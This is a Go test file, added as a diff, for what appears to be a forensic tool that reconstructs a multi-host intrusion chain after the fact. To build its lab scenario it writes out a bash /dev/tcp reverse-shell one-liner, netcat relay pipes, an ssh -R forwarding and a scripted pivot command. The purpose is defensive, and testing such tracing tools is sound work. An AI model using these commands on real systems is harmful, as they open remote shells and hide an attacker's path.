@@ -1,0 +1,107 @@
+package trace_test
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"dragnet/internal/testkit"
+)
+
+// TestChainAfterTheFact asks about an attack through six hosts when nothing of it
+// lives any more. The intruder logs in to h2 from h1, leaves a tmux there and logs
+// out. From it he reaches h3 by ssh, and by a forwarding that ssh -R on h4 opened
+// beforehand, h5. There a pipe feeds a reverse shell that h6 opened, which
+// attacks. At the same time a second user goes from b1 by h2 to h3, and b2 only
+// opens TCP to h3's port 22: they have no part in it.
+func TestChainAfterTheFact(t *testing.T) {
+	for _, tool := range []string{"tmux", "bash", "pkill"} {
+		testkit.Tool(t, tool)
+	}
+	l := newLab(t, "h1", "h2", "h3", "h4", "h5", "h6", "b1", "b2")
+	me := l.investigator()
+	h1, h2, h3, h4, h5, h6, b1, b2 := l.hosts[0], l.hosts[1], l.hosts[2], l.hosts[3], l.hosts[4], l.hosts[5], l.hosts[6], l.hosts[7]
+	for _, h := range l.hosts {
+		h.daemon(me)
+	}
+	h2.sshd()
+	h3.sshd()
+	h5.start("nc -l 9005 | nc -l 4444")
+	h5.await(4444)
+	h5.await(9005)
+	h6.start("exec bash -c 'exec 3<>/dev/tcp/10.0.0.5/4444 && exec sh <&3 >&3 2>&3'")
+	h4.start("exec " + l.ssh() + " -N -R 7001:10.0.0.5:9005 10.0.0.3")
+	h3.await(7001)
+	script := filepath.Join(l.dir, "attack.sh")
+	text := "{ sleep 1; echo 'nc 10.0.0.100 9000'; sleep 60; } | nc 127.0.0.1 7001\n"
+	if err := os.WriteFile(script, []byte(text), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	b2.start("exec nc 10.0.0.3 22")
+	b1.start("exec " + l.ssh() + " 10.0.0.2 " + l.ssh() + " 10.0.0.3 sleep 60")
+	port, at := l.attackedAndOver(9000, func() {
+		out, err := h1.run(fmt.Sprintf(`%s 10.0.0.2 "tmux -L %s new -d 'sleep 2; %s 10.0.0.3 sh %s'"`, l.ssh(), filepath.Base(l.dir), l.ssh(), script))
+		if err != nil {
+			t.Fatalf("%v: %s", err, out)
+		}
+		h2.until("the login from h1 is over", "ss -tnH state established dst 10.0.0.1 | grep -q . || echo over")
+	})
+	for _, h := range l.hosts {
+		h.run("pkill -x 'tmux.*|ssh|nc|bash|sleep|sshd-session'; sleep 0.2; pkill -x sshd")
+	}
+	for _, h := range l.hosts {
+		h.until("all its connections are over", "ss -tnH state established | grep -q . || echo over")
+	}
+	time.Sleep(time.Second) // until the recorder has looked again
+	casePath := filepath.Join(l.dir, "case.json")
+	shown, err := l.trace("start", "10.0.0.6", fmt.Sprintf("%d,9000", port), "--at", at.UTC().Format(time.RFC3339), "--case", casePath, "--call")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("\n%s", shown)
+	got := outline(l.judged(casePath).Root, 0)
+	want := `10.0.0.6 proven
+ 10.0.0.5 proven
+  10.0.0.4 proven
+   10.0.0.3 proven
+    10.0.0.2 proven
+     10.0.0.1 proven`
+	if got != want {
+		t.Errorf("the chain is\n%s\nwant\n%s", got, want)
+	}
+	if strings.Contains(shown, "10.0.0.7") || strings.Contains(shown, "10.0.0.8") {
+		t.Error("somebody is named who had no part in it")
+	}
+	out, err := l.trace("start", "10.0.0.6", fmt.Sprintf("%d,9000", port), "--case", filepath.Join(l.dir, "now.json"))
+	if err != nil || !strings.Contains(out, "NO-USER") {
+		t.Errorf("without a time: %v\n%s", err, out)
+	}
+}
+
+// attackedAndOver is attacked, for a connection that the victim closes again.
+func (l *lab) attackedAndOver(port int, attack func()) (attackerPort uint16, at time.Time) {
+	l.t.Helper()
+	var listener net.Listener
+	err := l.victim.Do(func() (err error) {
+		listener, err = net.Listen("tcp4", net.JoinHostPort(victimAddr, fmt.Sprint(port)))
+		return err
+	})
+	if err != nil {
+		l.t.Fatal(err)
+	}
+	defer listener.Close()
+	attack()
+	listener.(*net.TCPListener).SetDeadline(time.Now().Add(30 * time.Second))
+	c, err := listener.Accept()
+	if err != nil {
+		l.t.Fatalf("the attack never arrived: %v", err)
+	}
+	defer c.Close()
+	at = time.Now()
+	time.Sleep(1500 * time.Millisecond)
+	return c.RemoteAddr().(*net.TCPAddr).AddrPort().Port(), at
+}
